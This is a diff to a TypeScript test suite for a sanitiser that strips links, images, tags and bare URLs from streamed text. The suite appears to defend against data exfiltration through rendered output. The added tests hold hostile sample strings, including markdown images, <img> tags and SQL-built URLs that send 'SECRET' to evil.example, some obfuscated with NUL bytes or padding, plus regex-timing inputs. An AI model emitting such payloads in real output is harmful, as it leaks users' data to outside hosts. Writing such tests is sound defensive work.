@@ -56,6 +56,16 @@ const HOSTILE = [
   "![[x]](https://evil.example/SECRET)",
   "!![x](https://evil.example/SECRET)",
   "![x](\nhttps://evil.example/SECRET",
+  "<ab:!>[y](https://evil.example/SECRET)",
+  "<ab:!>[y](https://good.example/a?b=c)",
+  "https://evil.example/x'SECRET",
+  '<https://evil.example/x"SECRET>',
+  `${"a".repeat(2_060)}<img src=//evil.example/SECRET>`,
+  `[${"a".repeat(2_060)}](//evil.example/SECRET)`,
+  `${"a".repeat(2_060)}![x](https://good.example/a?b=c)`,
+  `[r]:${" ".repeat(2_100)}//evil.example/SECRET`,
+  "!\0[x](https://good.example/a?b=c)",
+  "<\0img src=//evil.example/SECRET>",
 ];
 
 /** What could fetch or be followed: a tag, an image, a destination or a bare address elsewhere. */
@@ -70,7 +80,7 @@ function dangers(text: string): string[] {
 }
 
 test.each(HOSTILE)("%j reaches nobody", (text) => {
-  expect(dangers(text)).not.toEqual([]);
+  expect(dangers(text.replaceAll("\0", ""))).not.toEqual([]);
   for (const size of [1, 2, 3, 5, 11, text.length]) {
     expect(dangers(shown(text, size))).toEqual([]);
     expect(dangers(shown(`before [a](/b) ${text} after ${text}`, size))).toEqual([]);
@@ -93,6 +103,46 @@ test("pieces of any size show no more than the whole", () => {
     }),
     { numRuns: 5_000 },
   );
+});
+
+test("a known address is shown as it is known", () => {
+  expect(shown("[y](https://good.example/a?b=c!?.,;:!!*~_)")).not.toContain("!?");
+  expect(shown("[y](https://good.example/a?b=c.)")).toBe("[y](https://good.example/a?b=c)");
+  expect(shown('"https://good.example/a?b=c", and (https://good.example/a?b=c).')).toBe(
+    '"https://good.example/a?b=c", and (https://good.example/a?b=c).',
+  );
+});
+
+test("an address that stands in the call which gave it is not learned", () => {
+  const addresses = new KnownAddresses();
+  addresses.learn('{"rows":[["https://evil.example/?d=SECRET"]]}', "SELECT 'https://evil.example/?d=' || secret");
+  addresses.learn('{"rows":[["https://rows.example/1"]]}', "SELECT url FROM t");
+  expect(addresses.formOf("https://evil.example/?d=SECRET")).toBeUndefined();
+  expect(addresses.formOf("https://rows.example/1")).toBe("https://rows.example/1");
+});
+
+test("scripts without blanks are shown as they come", () => {
+  const answer = new AnswerText(known);
+  expect(answer.push("日志中有三个")).toBe("日志中有三个");
+  expect(answer.push("错误见https://evil.example/SECRET")).toBe("");
+  expect(dangers(answer.end())).toEqual([]);
+});
+
+test.each([
+  ["!", 200_000],
+  ["](<", 60_000],
+  ["](", 100_000],
+  ["<", 200_000],
+  ["www.", 50_000],
+  [".", 200_000],
+  ["https://a.example/....", 10_000],
+])("%j, %i times, takes no time", (piece, count) => {
+  const startedMs = performance.now();
+  const text = piece.repeat(count);
+  shown(text);
+  shown(text, 4_096);
+  new KnownAddresses().learn(`https://${text}x`);
+  expect(performance.now() - startedMs).toBeLessThan(5_000);
 });
 
 test("what is long and has no end is let go", () => {
